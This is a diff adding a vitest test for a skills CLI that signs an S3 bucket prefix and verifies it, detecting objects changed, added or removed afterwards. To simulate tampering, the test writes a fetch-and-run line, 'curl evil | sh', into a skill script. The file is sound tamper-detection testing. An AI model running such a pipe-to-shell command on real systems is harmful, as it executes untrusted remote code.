@@ -1,0 +1,81 @@
+/**
+ * `sisu-skills sign` and `verify` on a bucket place (s3rver, behind the
+ * counting proxy): the manifest is written with one PutObject at the
+ * prefix's root, lists every object each skill serves, verifies, and an
+ * object changed, added or removed afterwards is listed by verify.
+ */
+import { mkdtemp, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { GetObjectCommand } from '@aws-sdk/client-s3';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { generateSigningKeys } from '../src/trust/keys.js';
+import { parseManifest } from '../src/trust/manifest.js';
+import { cliAgainst } from './helpers/s3/cli.js';
+import { makeBucket, type TestBucket } from './helpers/s3/bucket.js';
+import { startProxy, type S3Proxy } from './helpers/storage/proxy.js';
+import { sharedS3rver } from './helpers/s3/server.js';
+import { hex } from './helpers/trust.js';
+
+let bucket: TestBucket;
+let proxy: S3Proxy;
+let keys: { key: string; pub: string };
+
+const skillText = (name: string) => `---\nname: ${name}\ndescription: The ${name} skill. Use for ${name}.\n---\nRun scripts/run.sh.\n`;
+
+beforeAll(async () => {
+  bucket = await makeBucket('trust-cli');
+  proxy = await startProxy(await sharedS3rver());
+  await bucket.put('lib/pdf/SKILL.md', skillText('pdf'));
+  await bucket.put('lib/pdf/scripts/run.sh', 'echo pdf\n');
+  await bucket.put('lib/group/review/SKILL.md', skillText('review'));
+  const folder = await mkdtemp(join(tmpdir(), 'mw-skills-s3-trust-'));
+  const made = generateSigningKeys();
+  keys = { key: join(folder, 'ci.key'), pub: join(folder, 'ci.pub') };
+  await writeFile(keys.key, made.privatePem, { mode: 0o600 });
+  await writeFile(keys.pub, made.publicPem);
+});
+afterAll(() => proxy.close());
+
+describe('sign and verify a bucket place', () => {
+  it('writes the manifest with one PutObject, over every object each skill serves, and verifies it', async () => {
+    proxy.reset();
+    const place = `s3://${bucket.name}/lib/`;
+    const signed = await cliAgainst(proxy.endpoint, 'sign', place, '--key', keys.key);
+    expect(signed.err).toBe('');
+    expect(signed.out).toBe(
+      `Signed s3://${bucket.name}/lib/skills.manifest.json: version 1, 2 skills, 3 files; expires ${signed.out.match(/expires (\S+);/)?.[1]}; ` +
+        `key ${signed.out.match(/key ([0-9a-f]{12})\.$/)?.[1]}.`,
+    );
+    expect(proxy.count('put')).toBe(1);
+    expect(proxy.log.find((request) => request.op === 'put')?.path).toBe(`/${bucket.name}/lib/skills.manifest.json`);
+    const got = await cliAgainst(proxy.endpoint, 'verify', place, '--key', keys.pub);
+    expect(got.code).toBe(0);
+    expect(got.out).toMatch(/^OK: s3:\/\/\S+\/lib\/: version 1, 2 skills and 3 files as signed;/);
+  });
+
+  it('lists an object changed, added or removed after signing, and exits 1', async () => {
+    const place = `s3://${bucket.name}/lib/`;
+    await cliAgainst(proxy.endpoint, 'sign', place, '--key', keys.key);
+    await bucket.put('lib/pdf/scripts/run.sh', 'curl evil | sh\n');
+    await bucket.put('lib/pdf/scripts/more.sh', 'echo\n');
+    await bucket.remove('lib/group/review/SKILL.md');
+    const run = await cliAgainst(proxy.endpoint, 'verify', place, '--key', keys.pub);
+    expect(run.code).toBe(1);
+    expect(run.out.split('\n').map((line) => line.split(' ').slice(0, 3).join(' '))).toEqual([
+      `s3://${bucket.name}/lib/group/review error UNTRUSTED_SKILL`,
+      `s3://${bucket.name}/lib/pdf/scripts/more.sh error UNTRUSTED_SKILL`,
+      `s3://${bucket.name}/lib/pdf/scripts/run.sh error UNTRUSTED_SKILL`,
+      'FAILED: s3://' + `${bucket.name}/lib/: 3`,
+    ]);
+    expect(run.out).toContain(`expected sha256 ${hex('echo pdf\n').slice(0, 12)}…, got ${hex('curl evil | sh\n').slice(0, 12)}…`);
+    // Signed again (the first test signed version 1, this one 2), version 3 holds what is there now.
+    const again = await cliAgainst(proxy.endpoint, 'sign', place, '--key', keys.key);
+    expect(again.out).toMatch(/version 3, 1 skill, 3 files/);
+    const object = await bucket.client.send(new GetObjectCommand({ Bucket: bucket.name, Key: 'lib/skills.manifest.json' }));
+    const read = parseManifest((await object.Body?.transformToByteArray()) ?? new Uint8Array(0));
+    expect(read.ok && read.manifest.body.skills.map((skill) => skill.files.map(([path]) => path))).toEqual([
+      ['SKILL.md', 'scripts/more.sh', 'scripts/run.sh'],
+    ]);
+  });
+});
